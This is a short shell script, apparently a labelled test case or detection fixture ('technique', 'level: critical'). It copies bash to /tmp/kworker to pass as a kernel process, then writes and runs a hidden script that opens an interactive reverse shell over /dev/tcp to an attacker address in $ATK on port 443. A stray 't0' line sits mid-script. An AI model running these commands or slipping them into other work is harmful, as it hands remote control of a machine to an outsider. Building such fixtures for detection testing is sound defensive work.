# SPDX-License-Identifier: MIT
# technique: a renamed copy of bash, reverse shell started from a script
# level: critical
# quick: yes
cp /bin/bash /tmp/kworker
printf '/tmp/kworker -i >& /dev/tcp/%s/443 0>&1\n' "$ATK" >/tmp/.update.sh
t0
bash /tmp/.update.sh
